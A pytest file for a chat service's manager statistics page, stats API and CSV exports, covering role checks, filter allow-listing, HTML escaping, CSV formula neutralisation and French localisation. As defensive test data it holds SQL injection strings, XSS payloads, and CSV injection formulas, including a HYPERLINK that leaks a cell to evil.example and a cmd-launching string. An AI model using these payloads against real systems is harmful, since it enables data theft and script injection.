"""The manager page, /api/stats and the CSV over real HTTP: who may read them, the allow-list of query parameters
(SECURITY 13), formulas neutralised in the CSV (SECURITY 16), what people typed kept inert on the page (SECURITY
14), the page, the JSON and the CSV showing the same figures, French, and the KB form the page links to."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import datetime
from html import unescape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import httpx
import pytest
import sqlalchemy as sa

from chatsvc.store.schema import conversations, events, users
from chatsvc.web.i18n import Translator
from chatsvc.web.manager_pages import summary_cards
from tests.accounts.helpers import browser, signed_in_browser
from tests.manager_pages.history import History, write_history
from tests.support.people import People, people_on
from tests.support.servers import Backend, InProcessServer

HOSTILE_NAME = '<img src=x onerror=alert(1)>"</script><script>alert(2)</script>'
HOSTILE_QUESTION = "<script>alert('q')</script> & <b>bold</b>?"
FIGURE = re.compile(r'data-figure="([a-z_0-9]+)" data-value="([^"]*)"')
TABLES = ("summary", "hourly", "daily", "agents", "unanswered")


class _Page(HTMLParser):
    """Scripts, inline handlers and styles, and the live panel's hooks of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, str | None]] = []
        self.handlers: list[tuple[str, str]] = []
        self.styles: list[str] = []
        self.live_fields: list[str] = []
        self.csv_links: dict[str, str] = {}
        self.create_links: list[str] = []
        self.charts: list[str] = []
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self.handlers += [(tag, name) for name, _ in attrs if name.startswith("on")]
        if "style" in values:
            self.styles.append(tag)
        if "data-live-field" in values:
            self.live_fields.append(str(values["data-live-field"]))
        if tag == "a" and "data-csv" in values:
            self.csv_links[str(values["data-csv"])] = str(values["href"])
        if tag == "a" and "data-create-article" in values:
            self.create_links.append(str(values["href"]))
        if tag == "svg" and "data-chart" in values:
            self.charts.append(str(values["data-chart"]))
        if tag == "script":
            self._script = {"src": values.get("src"), "type": values.get("type"), "id": values.get("id"), "body": ""}
            self.scripts.append(self._script)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script["body"] = (self._script["body"] or "") + data


def parse(text: str) -> _Page:
    parser = _Page()
    parser.feed(text)
    return parser


def figures_of(text: str) -> dict[str, Any]:
    return {key: json.loads(unescape(value)) for key, value in FIGURE.findall(text)}


def rows_of(response: httpx.Response) -> list[list[str]]:
    """A CSV export's rows, read as a spreadsheet would: UTF-8 after its byte order mark."""
    assert response.content.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def _counts(server: InProcessServer) -> tuple[int, int, int]:
    async with server.services.db.connect() as conn:
        return (
            (await conn.execute(sa.select(sa.func.count()).select_from(conversations))).scalar_one(),
            (await conn.execute(sa.select(sa.func.count()).select_from(users))).scalar_one(),
            (await conn.execute(sa.select(sa.func.count()).select_from(events))).scalar_one(),
        )


# --- who may read the figures ---------------------------------------------------------------------------------


async def test_signed_out_page_goes_to_sign_in_and_the_api_and_csv_answer_401(server: InProcessServer) -> None:
    async with browser(server) as client:
        response = await client.get("/manager")
        assert response.status_code == 303 and response.headers["location"] == "/login?next=/manager"
        for path in ("/api/stats", "/manager/export.csv?table=summary"):
            response = await client.get(path, headers={"accept": "text/html"})  # a browser's link, too
            assert response.status_code == 401, path
            assert response.json()["error"] == "unauthorized"
        client.cookies.set("chatsvc_session", "not-a-session")
        assert (await client.get("/api/stats")).status_code == 401


async def test_an_agent_is_refused_the_page_the_api_and_the_csv(server: InProcessServer, people: People) -> None:
    async with signed_in_browser(server, people.agent.email) as client:
        page = await client.get("/manager")
        assert page.status_code == 403 and "text/html" in page.headers["content-type"]
        assert "forbidden" in page.text and 'data-live' not in page.text
        for path in ("/api/stats", "/manager/export.csv?table=agents", "/api/stats?period=' OR 1=1--"):
            response = await client.get(path)
            assert response.status_code == 403, path
            assert response.json()["error"] == "forbidden"
        staff = await client.get("/staff")
        assert 'href="/manager"' not in staff.text


@pytest.mark.parametrize("role", ["manager", "admin"])
async def test_managers_and_admins_read_all_three(server: InProcessServer, people: People, role: str) -> None:
    async with signed_in_browser(server, getattr(people, role).email) as client:
        page = await client.get("/manager")
        assert page.status_code == 200 and page.headers["cache-control"] == "no-store"
        assert (await client.get("/api/stats")).status_code == 200
        exported = await client.get("/manager/export.csv?table=summary")
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        assert 'href="/manager"' in (await client.get("/staff")).text  # the tile on My space
    token = await server.staff_token(getattr(people, role))
    async with httpx.AsyncClient(base_url=server.url) as http:  # a bearer token works for the API
        assert (await http.get("/api/stats", headers={"Authorization": "Bearer " + token})).status_code == 200


# --- SECURITY 13: the query is an allow-list, values are bound -----------------------------------------------

HOSTILE_VALUES = ("' OR 1=1--", "1); SELECT pg_sleep(5)--", "pg_sleep(5)", "x' UNION SELECT password_hash FROM users--")


async def test_hostile_filters_are_refused_fast_and_change_nothing(
    backend: Backend, start_server  # type: ignore[no-untyped-def]
) -> None:
    async with start_server(backend) as server:
        people = await people_on(server)
        await write_history(server.services.db)
        before = await _counts(server)
        cases: list[tuple[str, str]] = []
        for value in HOSTILE_VALUES:
            cases += [(f"{field}={value}", field) for field in ("site", "team", "agent", "period")]
            cases += [(f"period=custom&from={value}&to=2026-01-01", "from"),
                      (f"period=custom&from=2026-01-01&to={value}", "to")]
        cases += [("order=name", "order"), ("sort=created_at;DROP TABLE users", "sort"), ("period=7d&period=30d", "period"),
                  ("agent[$ne]=1", "agent[$ne]"), ("period=custom&from=2026-02-30&to=2026-03-01", "from"),
                  ("period=custom&from=2026-03-02&to=2026-03-01", "to"),
                  ("period=custom&from=1999-12-31&to=2000-01-02", "from"),
                  ("period=custom&from=2024-01-01&to=2026-01-01", "to"), ("site=" + "a" * 500, "site"),
                  ("site=%00", "site")]
        async with signed_in_browser(server, people.manager.email) as client:
            for query, field in cases:
                for path in ("/api/stats", "/manager/export.csv"):
                    suffix = "&table=summary" if path.endswith(".csv") else ""
                    started = time.perf_counter()
                    response = await client.get(f"{path}?{query}{suffix}")
                    elapsed = time.perf_counter() - started
                    assert response.status_code == 400, (path, query, response.text)
                    body = response.json()
                    assert body["error"] == "invalid_filter" and body["field"] == field, (path, query, body)
                    assert elapsed < 1.0, (path, query, elapsed)
                    assert "password_hash" not in response.text and "Traceback" not in response.text
                page = await client.get(f"/manager?{query}")
                assert page.status_code == 400 and "data-filter-error" in page.text, query
                assert "<script>" not in page.text.split('id="mg-data"')[0]
            for value in HOSTILE_VALUES:  # the CSV's own parameter
                response = await client.get("/manager/export.csv", params={"table": value})
                assert response.status_code == 400 and response.json()["field"] == "table"
            # A hostile value shown back in the form is text.
            page = await client.get("/manager", params={"site": '"><script>alert(1)</script>'})
            assert page.status_code == 400 and "<script>alert(1)" not in page.text
        assert await _counts(server) == before


async def test_an_unknown_but_well_formed_id_is_invalid_too(server: InProcessServer, people: People,
                                                             history: History) -> None:
    async with signed_in_browser(server, people.manager.email) as client:
        for field in ("site", "team", "agent"):
            response = await client.get("/api/stats", params={field: "0" * 32})
            assert response.status_code == 400 and response.json() == {
                "error": "invalid_filter", "message": response.json()["message"], "field": field}
        # The real ones pass, one at a time and together.
        for params in ({"site": history.site_id}, {"team": history.team_id}, {"agent": history.agent_ids[0]},
                       {"site": history.site_id, "team": history.team_id, "agent": history.agent_ids[0]}):
            response = await client.get("/api/stats", params=params)
            assert response.status_code == 200, params
        # An empty value is no filter (the form sends every field).
        response = await client.get("/api/stats?period=today&site=&team=&agent=&from=&to=")
        assert response.status_code == 200 and response.json()["filters"] == {"site": None, "team": None,
                                                                                "agent": None}


# --- the page, the JSON and the CSV agree ------------------------------------------------------------------


async def test_the_page_shows_the_figures_of_the_api(server: InProcessServer, people: People,
                                                     history: History) -> None:
    async with signed_in_browser(server, people.manager.email) as client:
        report = (await client.get("/api/stats?period=7d")).json()
        page = await client.get("/manager?period=7d")
    assert page.status_code == 200
    summary = report["summary"]
    # The scripted history, as the service counts it: the page is only checked against it.
    assert summary["conversations"] == 6 and summary["bot_resolved"] == 1 and summary["handed_off"] == 4
    shown = figures_of(page.text.split("data-agents-table")[0])
    assert set(shown) == set(summary) and shown == summary
    # The per-agent table: one row per agent in the JSON, its cells' raw values equal.
    assert [a["name"] for a in report["agents"]] == ["Bea Agent", "Carl Agent"]
    for agent in report["agents"]:
        row = page.text.split(f'data-agent-row="{agent["id"]}"')[1].split("</tr>")[0]
        cells = dict(re.findall(r'data-col="([a-z_]+)" data-value="([^"]*)"', row))
        for key in ("conversations", "first_response_median_seconds", "handling_average_seconds", "csat",
                    "csat_responses"):
            assert json.loads(unescape(cells[key])) == agent[key], key
    # The questions: the two spellings of the invoice question are one group, asked twice.
    assert report["unanswered"][0]["count"] == 2
    parsed = parse(page.text)
    assert len(parsed.create_links) == len(report["unanswered"]) == 2
    for link, item in zip(parsed.create_links, report["unanswered"], strict=True):
        query = parse_qs(urlsplit(unescape(link)).query)
        assert urlsplit(unescape(link)).path == "/kb/new" and query["title"] == [item["question"]]
        assert query.get("alt", [""])[0].splitlines() == item["examples"]
    assert sorted(parsed.charts) == sorted(["conversations-hourly", "wait-hourly", "deflection-daily", "csat-daily"])
    assert set(parsed.csv_links) == set(TABLES)
    assert report["period"]["key"] == "7d" and len(report["daily"]) == 7 and len(report["hourly"]) >= 7 * 24 - 1


async def test_each_csv_holds_the_rows_of_the_json(server: InProcessServer, people: People,
                                                   history: History) -> None:
    async with signed_in_browser(server, people.manager.email) as client:
        report = (await client.get("/api/stats", params={"period": "7d", "site": history.site_id})).json()
        page = parse((await client.get("/manager", params={"period": "7d", "site": history.site_id})).text)
        exports = {table: await client.get(unescape(page.csv_links[table])) for table in TABLES}
    for table, response in exports.items():
        assert response.status_code == 200, table
        disposition = response.headers["content-disposition"]
        assert disposition == (f'attachment; filename="chatsvc-{table}-{report["period"]["from"]}_'
                               f'{report["period"]["to"]}.csv"')

    def number(cell: str) -> float | None:
        return None if cell == "" else float(cell)

    summary = rows_of(exports["summary"])
    assert summary[0] == ["Key", "Figure", "Value"]
    assert {row[0]: number(row[2]) for row in summary[1:]} == report["summary"]
    hourly = rows_of(exports["hourly"])
    assert hourly[0] == ["Hour (local)", "Conversations", "Average wait (seconds)", "Chats that waited"]
    assert [[r[0], number(r[1]), number(r[2]), number(r[3])] for r in hourly[1:]] == [
        [h["hour"], h["conversations"], h["wait_average_seconds"], h["waits"]] for h in report["hourly"]]
    daily = rows_of(exports["daily"])
    keys = ("conversations", "bot_resolved", "deflection_rate", "csat", "csat_responses")
    assert [[r[0], *(number(c) for c in r[1:])] for r in daily[1:]] == [
        [d["day"], *(d[k] for k in keys)] for d in report["daily"]]
    agents = rows_of(exports["agents"])
    keys = ("conversations", "first_response_median_seconds", "handling_average_seconds", "csat", "csat_responses")
    assert [[r[0], r[1], *(number(c) for c in r[2:])] for r in agents[1:]] == [
        [a["id"], a["name"], *(a[k] for k in keys)] for a in report["agents"]]
    unanswered = rows_of(exports["unanswered"])
    assert unanswered[0] == ["Question", "Times asked", "Last asked", "Also asked as", "Now answered by (article id)"]
    zone = ZoneInfo(report["period"]["timezone"])
    assert [[r[0], number(r[1]), r[2], r[3].splitlines(), r[4]] for r in unanswered[1:]] == [
        [u["question"], u["count"],
         datetime.fromisoformat(u["last_asked"]).astimezone(zone).replace(microsecond=0).isoformat(),
         u["examples"], ""] for u in report["unanswered"]]
    # Last asked: ISO seconds with the stats zone's offset, no microseconds ("2026-11-27T14:03:12+00:00").
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", r[2]) for r in unanswered[1:])
    # Numbers are written as numbers whatever the page's language: seconds and fractions, "." as the point.
    assert all("," not in row[2] for row in summary[1:])


async def test_a_custom_period_and_filters_reach_the_report(server: InProcessServer, people: People,
                                                            history: History) -> None:
    day = history.now.date().isoformat()
    async with signed_in_browser(server, people.admin.email) as client:
        params = {"period": "custom", "from": day, "to": day, "agent": history.agent_ids[0]}
        report = (await client.get("/api/stats", params=params)).json()
        page = await client.get("/manager", params=params)
    assert report["period"]["from"] == report["period"]["to"] == day
    assert report["filters"]["agent"] == history.agent_ids[0]
    assert report["summary"]["conversations"] == 1 and len(report["hourly"]) in (23, 24, 25)
    assert figures_of(page.text.split("data-agents-table")[0]) == report["summary"]
    # The form shows what was chosen.
    assert 'value="custom" selected' in page.text and f'value="{history.agent_ids[0]}" selected' in page.text
    assert f'name="from" value="{day}"' in page.text


# --- SECURITY 16: nothing in a CSV starts a formula ---------------------------------------------------------


async def test_formulas_in_names_and_questions_are_neutralised(server: InProcessServer, people: People) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    questions = ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 what are your hours", "-2+3 can I get a refund",
                 "=1+1 where is my order", "\tfoo=1", "ordinary question about delivery times")
    await write_history(server.services.db, agent_names=(formula, "Plain Agent"), questions=questions)
    async with signed_in_browser(server, people.manager.email) as client:
        report = (await client.get("/api/stats?period=7d")).json()
        agents = rows_of(await client.get("/manager/export.csv?period=7d&table=agents"))
        unanswered = rows_of(await client.get("/manager/export.csv?period=7d&table=unanswered"))
    assert any(a["name"] == formula for a in report["agents"])  # the JSON keeps the text as it is
    names = [row[1] for row in agents[1:]]
    assert "'" + formula in names and formula not in names
    cells = [cell for row in unanswered[1:] for cell in (row[0], *row[3].splitlines())]
    assert cells, unanswered
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert any(cell.startswith("'@SUM") for cell in cells)
    assert any(cell.startswith(("'=1+1", "'+1+1", "'-2+3")) for cell in cells)


# --- SECURITY 14: what people typed is inert on the page -------------------------------------------------------


async def test_hostile_names_and_questions_are_text_on_the_page(server: InProcessServer, people: People) -> None:
    history = await write_history(server.services.db, agent_names=(HOSTILE_NAME, "Plain Agent"),
                                  questions=(HOSTILE_QUESTION, HOSTILE_QUESTION, HOSTILE_QUESTION + " please"))
    async with signed_in_browser(server, people.manager.email) as client:
        page = await client.get("/manager?period=7d")
        filtered = await client.get("/manager", params={"period": "7d", "agent": history.agent_ids[0]})
    for text in (page.text, filtered.text):
        assert text.count("<script") == len(parse(text).scripts) == 3  # app.js, manager.js, the data island
        assert "<img src=x" not in text and "<b>bold</b>" not in text
        assert "&lt;img src=x onerror=alert(1)&gt;" in text  # the name, as text (the select, the table)
    assert "&lt;script&gt;alert(&#39;q&#39;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;?</p>" in page.text  # as text
    assert "&lt;b&gt;bold&lt;/b&gt;? please</span>" in page.text  # an example, as text
    parsed = parse(page.text)
    assert parsed.handlers == [] and parsed.styles == []
    # The "Create article" link carries the question URL-encoded, never as markup.
    assert parsed.create_links and all("<" not in link for link in parsed.create_links)
    island = next(s for s in parsed.scripts if s["id"] == "mg-data")
    assert island["type"] == "application/json" and "</script" not in (island["body"] or "")


# --- the page's parts ----------------------------------------------------------------------------------------


async def test_the_page_has_its_hooks_and_no_inline_code(server: InProcessServer, people: People) -> None:
    async with signed_in_browser(server, people.manager.email) as client:
        response = await client.get("/manager")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    page = parse(response.text)
    assert page.handlers == [] and page.styles == []
    scripts = [s for s in page.scripts if s["src"] is None]
    assert len(scripts) == 1 and scripts[0]["type"] == "application/json" and scripts[0]["id"] == "mg-data"
    data = json.loads(scripts[0]["body"] or "{}")
    assert data["socket"] == "/ws/manager" and data["lang"] == "en"
    assert data["strings"]["manager.status.away"] == "Away"
    assert data["strings"]["manager.live.state.offline"]
    assert {"/static/manager.js?v=" in (s["src"] or "") for s in page.scripts} == {True, False}
    assert sorted(page.live_fields) == sorted([
        "waiting", "longest_wait", "estimated_wait", "in_progress", "bot", "agents_online", "agents_away",
        "agents_offline", "today_conversations", "today_deflection", "today_first_response", "today_abandoned",
        "today_tickets", "today_csat"])
    text = response.text
    for hook in ('data-live data-live-state="connecting" data-live-version="0"', "data-live-agents",
                 "form method=\"get\" action=\"/manager\"", "data-period-form", 'name="period"', 'name="from"',
                 'name="to"', 'name="site"', 'name="team"', 'name="agent"', "data-agents-table", "data-unanswered"):
        assert hook in text, hook
    # Every figure has its definition next to it, and the docs are named.
    assert text.count('class="mg-def"') == 11 and "docs/metrics.md" in text


async def test_the_page_in_french(server: InProcessServer, people: People, history: History) -> None:
    async with signed_in_browser(server, people.manager.email) as client:
        page = await client.get("/manager?period=7d&lang=fr")
        exported = rows_of(await client.get("/manager/export.csv?period=7d&table=hourly"))  # the cookie
        report = (await client.get("/api/stats?period=7d")).json()
    text = page.text
    assert page.status_code == 200 and '<html lang="fr">' in text
    for phrase in ("Statistiques de l'équipe", "En ce moment", "Sur une période", "7 derniers jours",
                   "Tous les sites", "Première réponse", "Taux d'abandon", "Par agent", "Créer un article",
                   "Dans le temps", "Conversations par heure"):
        assert unescape(text).count(phrase), phrase
    data = json.loads(next(s for s in parse(text).scripts if s["id"] == "mg-data")["body"] or "{}")
    assert data["lang"] == "fr" and data["strings"]["manager.status.away"] == "Absent"
    # A rate in French: a comma and a (narrow) space before the sign; the raw value stays a number.
    rate = report["summary"]["deflection_rate"]
    assert rate is not None
    shown = re.search(r'data-figure="deflection_rate" data-value="[^"]*">([^<]*)<', text)
    assert shown and shown.group(1).endswith("\u202f%") and "." not in shown.group(1)
    assert exported[0] == ["Heure (locale)", "Conversations", "Attente moyenne (secondes)", "Chats ayant attendu"]
    # The live Agents tile's words follow the count the script writes before them: both forms are sent.
    assert data["strings"]["manager.live.agents_away.one"] == "absent"
    assert data["strings"]["manager.live.agents_away.other"] == "absents"


@pytest.mark.parametrize(
    ("lang", "counts", "expected"),
    [
        ("en", {"csat_responses": 1, "sla_breaches": 1, "nps_responses": 0}, ("rating", "SLA breach", "answers")),
        ("en", {"csat_responses": 2, "sla_breaches": 3, "nps_responses": None}, ("ratings", "SLA breaches", "answers")),
        ("fr", {"csat_responses": 1, "sla_breaches": 0, "nps_responses": 1}, ("note", "dépassement de SLA", "réponse")),
        ("fr", {"csat_responses": 2, "sla_breaches": 2, "nps_responses": None},
         ("notes", "dépassements de SLA", "réponses")),
    ],
)
def test_a_cards_lines_are_singular_or_plural_for_their_count(lang: str, counts: dict[str, Any],
                                                              expected: tuple[str, ...]) -> None:
    lines = {line["key"]: line["label"] for card in summary_cards(counts, Translator(lang)) for line in card["lines"]}
    assert (lines["csat_responses"], lines["sla_breaches"], lines["nps_responses"]) == expected
    assert lines["first_response_p90_seconds"] == ("90th percentile" if lang == "en" else "90e centile")


# --- the KB form the "Create article" link opens -----------------------------------------------------------------


async def test_the_new_article_form_is_prefilled_from_the_query(server: InProcessServer, people: People) -> None:
    alt = "first phrasing\n\n second <b>phrasing</b> \r\nthird\x00one"
    async with signed_in_browser(server, people.manager.email) as client:
        page = await client.get("/kb/new", params={"title": 'Where is my "order"? <script>x</script>', "alt": alt})
        long = await client.get("/kb/new", params={"title": "t" * 1000 + "\nsecond line",
                                                   "alt": "\n".join(f"line {n}" for n in range(80))})
        plain = await client.get("/kb/new")
        agent_refused = await client.get("/kb/new?title=x")
    assert page.status_code == 200
    assert 'value="Where is my &#34;order&#34;? &lt;script&gt;x&lt;/script&gt;"' in page.text
    textarea = page.text.split('name="alt"')[1].split("</textarea>")[0].split(">", 1)[1]
    assert textarea == "first phrasing\nsecond &lt;b&gt;phrasing&lt;/b&gt;\nthird one"
    title = re.search(r'name="title" value="([^"]*)"', long.text)
    assert title and len(unescape(title.group(1))) == 300 and "second line" not in long.text.split("</form>")[0]
    long_alt = long.text.split('name="alt"')[1].split("</textarea>")[0].split(">", 1)[1]
    assert len(long_alt.splitlines()) == 50
    assert 'name="title" value=""' in plain.text
    assert agent_refused.status_code == 200  # the manager's own request; agents are refused below
    async with signed_in_browser(server, people.agent.email) as client:
        assert (await client.get("/kb/new?title=x")).status_code == 403
